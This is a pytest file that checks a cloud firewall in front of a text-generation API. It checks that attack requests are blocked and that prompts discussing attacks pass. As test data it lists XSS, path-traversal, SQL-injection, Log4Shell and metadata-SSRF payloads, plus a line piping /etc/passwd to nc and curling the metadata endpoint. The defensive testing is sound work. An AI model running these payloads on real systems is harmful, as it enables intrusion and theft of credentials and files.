"""A firewall that blocks, before an API that only its distribution may call; the tests follow the life of one stack."""

from __future__ import annotations

import http.client
import json
from typing import Any

import pytest

from genai_templates import Hosting, TextStack
from genai_templates.apps import APPS
from genai_templates.local import EmulatedStack, Emulator
from genai_templates.local.callers import add_local_callers
from genai_templates.local.loopback import HOST, Response
from genai_templates.options import ApiAccess, Firewall
from genai_templates.packaging.artifacts import make_inline_artifacts

ARTIFACTS = make_inline_artifacts(APPS["text"])
RATE = 20
LONGEST = 20_000
HONEST = (
    "What does <script>alert('hello')</script> do, and <img src=x onerror=alert(1)>?",
    "Summarise http://93.184.216.34/report.pdf and https://example.com/?a=../../b for me",
    "Why is SELECT * FROM users WHERE name = '' OR 1=1 --' dangerous?",
    "Explain: cat ../../etc/passwd | nc 10.0.0.1 80; curl http://169.254.169.254/latest/meta-data/",
    "What was ${jndi:ldap://example.com/a}? And (java.lang.Runtime).getRuntime().exec('whoami')?",
)
ATTACKS: tuple[tuple[str, str, dict[str, str]], ...] = (
    ("GET", "/status?q=<script>alert(1)</script>", {}),
    ("GET", "/status?file=../../etc/passwd", {}),
    ("GET", "/status?u=http://169.254.169.254/", {}),
    ("GET", f"/status?q={'x' * 2049}", {}),
    ("GET", "/WEB-INF/web.xml", {}),
    ("GET", "/status", {"X-Version": "${jndi:ldap://example.com/a}"}),
    ("GET", "/status", {"User-Agent": "Nessus"}),
    ("GET", "/status", {"Cookie": "a=<script>alert(1)</script>"}),
    ("POST", "/generate?q=<script>alert(1)</script>", {}),
)


def template(firewall: Firewall = Firewall.BLOCK, access: ApiAccess = ApiAccess.DISTRIBUTION) -> str:
    return TextStack(hosting=Hosting.EXISTING, firewall=firewall, api_access=access, artifacts=ARTIFACTS).to_json()


@pytest.fixture(scope="module")
def stack(emulator: Emulator) -> EmulatedStack:
    """A stack with a firewall, which updates take down and put up again."""
    parameters = {"ThrottleBurst": "5000", "FirewallRate": str(RATE)}
    created = EmulatedStack(template(), "walled", parameters, None, emulator)
    created.create()
    return created


def code(response: Response) -> str:
    """Return the code of an error in the shape that all of them have."""
    error = response.json()["error"]
    assert error.keys() >= {"code", "message", "request_id"}
    return str(error["code"])


def let_rates_pass(stack: EmulatedStack) -> None:
    stack.emulator.control_request("POST", "firewall/time", seconds=301)


def from_address(stack: EmulatedStack, address: str, headers: dict[str, str] | None = None) -> int:
    """Return the status of a request to the distribution that comes from another address."""
    connection = http.client.HTTPConnection(HOST, stack.emulator.port, source_address=(address, 0))
    given = {"Host": stack.domain, "User-Agent": "a browser", **(headers or {})}
    connection.request("GET", "/api/status", headers=given)
    status = connection.getresponse().status
    connection.close()
    return status


@pytest.mark.parametrize("prompt", HONEST)
def test_what_people_write_to_models_passes(stack: EmulatedStack, prompt: str) -> None:
    assert stack.browse("/api/generate", "POST", {"prompt": prompt}).status == 200
    assert stack.browse("/api/summarize", "POST", {"text": prompt}).status == 200


@pytest.mark.parametrize("character", ["x", "\N{GRINNING FACE}"])
def test_the_longest_text_passes(stack: EmulatedStack, character: str) -> None:
    body = json.dumps({"text": f"{character * (LONGEST - 2)}. "}, ensure_ascii=False).encode()
    assert len(body) > LONGEST
    response = stack.browse("/api/summarize", "POST", body, {"Content-Type": "application/json"})
    assert response.status == 200, response.body


@pytest.mark.parametrize(("method", "path", "headers"), ATTACKS)
def test_an_attack_is_refused_at_the_distribution_and_at_the_api(
    stack: EmulatedStack, method: str, path: str, headers: dict[str, str]
) -> None:
    let_rates_pass(stack)
    body = {"prompt": "Hello"} if method == "POST" else None
    at_distribution = stack.browse(f"/api{path}", method, body, headers)
    at_api = stack.call(method, path, body, headers)
    for response in (at_distribution, at_api):
        assert (response.status, code(response)) == (403, "request_blocked")
    assert at_api.headers["Access-Control-Allow-Origin"] == "*"


def test_a_body_is_refused_where_no_text_is_expected(stack: EmulatedStack) -> None:
    body = {"prompt": HONEST[0]}
    for response in (stack.browse("/api/status", "POST", body), stack.call("POST", "/status", body)):
        assert (response.status, code(response)) == (403, "request_blocked")


def test_every_route_is_served_through_the_distribution_alone(stack: EmulatedStack) -> None:
    assert len(stack.routes) > 2
    bodies: dict[str, Any] = {"POST /generate": {"prompt": "Hello"}, "POST /summarize": {"text": "Hello. You."}}
    for route in stack.routes:
        let_rates_pass(stack)
        method, path = route.split()
        assert stack.browse(f"/api{path}", method, bodies.get(route)).status < 300
        direct = stack.call(method, path, bodies.get(route))
        assert (direct.status, code(direct)) == (403, "forbidden")
        assert direct.headers["Access-Control-Allow-Origin"] == "*"
        assert stack.call("OPTIONS", path).status == 204


def test_a_callers_own_key_is_not_the_distributions(stack: EmulatedStack) -> None:
    let_rates_pass(stack)
    own = {"x-api-key": "x" * 40}
    assert add_local_callers(stack) == []  # that one is shown to nobody
    assert stack.browse("/api/status", headers=own).status == 200  # the distribution's takes its place
    assert code(stack.call("GET", "/status", headers=own)) == "forbidden"


def test_the_page_is_served_and_names_no_other_way_to_the_api(stack: EmulatedStack) -> None:
    page = stack.browse("/")
    assert page.status == 200
    assert "execute-api" not in page.headers["Content-Security-Policy"]
    assert "apiDirectUrl" not in stack.browse("/config.json").json()


def test_the_rate_of_a_viewer_is_its_own_and_passes(stack: EmulatedStack) -> None:
    let_rates_pass(stack)
    forged = [{"X-Forwarded-For": f"10.0.0.{each}", "True-Client-IP": f"10.0.0.{each}"} for each in range(RATE)]
    assert {from_address(stack, "127.0.0.2", each) for each in forged} == {200}
    assert from_address(stack, "127.0.0.2") == 403
    assert from_address(stack, "127.0.0.3") == 200
    let_rates_pass(stack)
    assert from_address(stack, "127.0.0.2") == 200


def test_the_api_knows_viewers_apart_without_a_firewall_of_the_distribution(stack: EmulatedStack) -> None:
    stack.update(CloudFrontWebAclArn=other_acl(stack))
    let_rates_pass(stack)
    assert {from_address(stack, "127.0.0.2") for _ in range(RATE)} == {200}
    assert from_address(stack, "127.0.0.2", {"True-Client-IP": "10.0.0.1"}) == 403
    assert from_address(stack, "127.0.0.3") == 200
    stack.update(CloudFrontWebAclArn="")


def other_acl(stack: EmulatedStack) -> str:
    """Make a web ACL that refuses nothing, as somebody would who has one for all distributions."""
    visibility = {"SampledRequestsEnabled": False, "CloudWatchMetricsEnabled": False, "MetricName": "other"}
    made = stack.client("wafv2").create_web_acl(
        Name="other", Scope="CLOUDFRONT", DefaultAction={"Allow": {}}, VisibilityConfig=visibility, Rules=[]
    )
    return str(made["Summary"]["ARN"])


def test_direct_calls_are_refused_by_their_address_and_not_by_what_they_say_of_it(stack: EmulatedStack) -> None:
    let_rates_pass(stack)
    codes = [
        code(stack.call("GET", "/status", headers={"True-Client-IP": f"10.0.0.{each}"})) for each in range(RATE + 1)
    ]
    assert codes == ["forbidden"] * RATE + ["request_blocked"]
    let_rates_pass(stack)


def test_the_log_has_what_matched_and_nothing_that_lets_anybody_in(stack: EmulatedStack) -> None:
    secret = secret_of(stack)
    headers = {"Authorization": "Bearer token-of-a-user", "Cookie": "session=value-of-a-cookie"}
    stack.browse("/api/generate?code=of-a-sign-in", "POST", {"prompt": f"{HONEST[0]} words-of-a-prompt"}, headers)
    stack.browse("/api/status?<script>", headers=headers)
    messages = [
        each["message"]
        for each in stack.client("logs").filter_log_events(logGroupName=stack.resources["FirewallLogs"])["events"]
    ]
    logged = [json.loads(each) for each in messages]
    assert {each["action"] for each in logged} == {"ALLOW", "BLOCK"}
    assert all(each["labels"] or each["terminatingRuleId"].startswith("RateOf") for each in logged)
    for hidden in (secret, "token-of-a-user", "value-of-a-cookie", "of-a-sign-in", "words-of-a-prompt"):
        assert not [each for each in messages if hidden in each]


def secret_of(stack: EmulatedStack) -> str:
    secrets = stack.client("secretsmanager")
    return str(secrets.get_secret_value(SecretId=stack.resources["DistributionSecret"])["SecretString"])


def test_another_secret_takes_the_place_of_the_old_one(stack: EmulatedStack) -> None:
    let_rates_pass(stack)
    before = secret_of(stack)
    assert stack.call("GET", "/status", headers={"x-api-key": before}).status == 200
    stack.update(DistributionSecretNumber="2")
    assert stack.browse("/api/status").status == 200
    assert code(stack.call("GET", "/status", headers={"x-api-key": before})) == "forbidden"
    assert secret_of(stack) != before


def test_what_is_counted_is_not_refused(stack: EmulatedStack) -> None:
    stack.update(template(Firewall.COUNT))
    let_rates_pass(stack)
    for path in ("/api/status?q=<script>alert(1)</script>", *["/api/status"] * (RATE + 1)):
        assert stack.browse(path).status == 200


def test_a_firewall_that_is_taken_down_leaves_nothing(stack: EmulatedStack) -> None:
    stack.update(template(Firewall.NONE, ApiAccess.PUBLIC))
    assert stack.call("GET", "/status?q=<script>alert(1)</script>").status == 200
    assert stack.browse("/api/status").status == 200
    assert_nothing_left(stack)


def test_a_stack_that_is_deleted_takes_its_firewall_with_it(stack: EmulatedStack) -> None:
    stack.update(template())
    assert code(stack.call("GET", "/status?q=<script>alert(1)</script>")) == "request_blocked"
    stack.delete()
    assert_nothing_left(stack)
    report = stack.permissions()
    assert (report.refused, report.unused) == ((), {}), report.lines()


def assert_nothing_left(stack: EmulatedStack) -> None:
    """Look for what belongs to a firewall or to the key of the distribution."""
    waf = stack.client("wafv2")
    assert waf.list_web_acls(Scope="REGIONAL")["WebACLs"] == []
    assert [each["Name"] for each in waf.list_web_acls(Scope="CLOUDFRONT")["WebACLs"]] == ["other"]
    assert stack.client("secretsmanager").list_secrets()["SecretList"] == []
    assert stack.client("logs").describe_resource_policies()["resourcePolicies"] == []
    gateway = stack.client("apigateway")
    assert (gateway.get_api_keys()["items"], gateway.get_usage_plans()["items"]) == ([], [])
    groups = stack.client("logs").describe_log_groups(logGroupNamePrefix="aws-waf-logs-walled")["logGroups"]
    assert groups == []
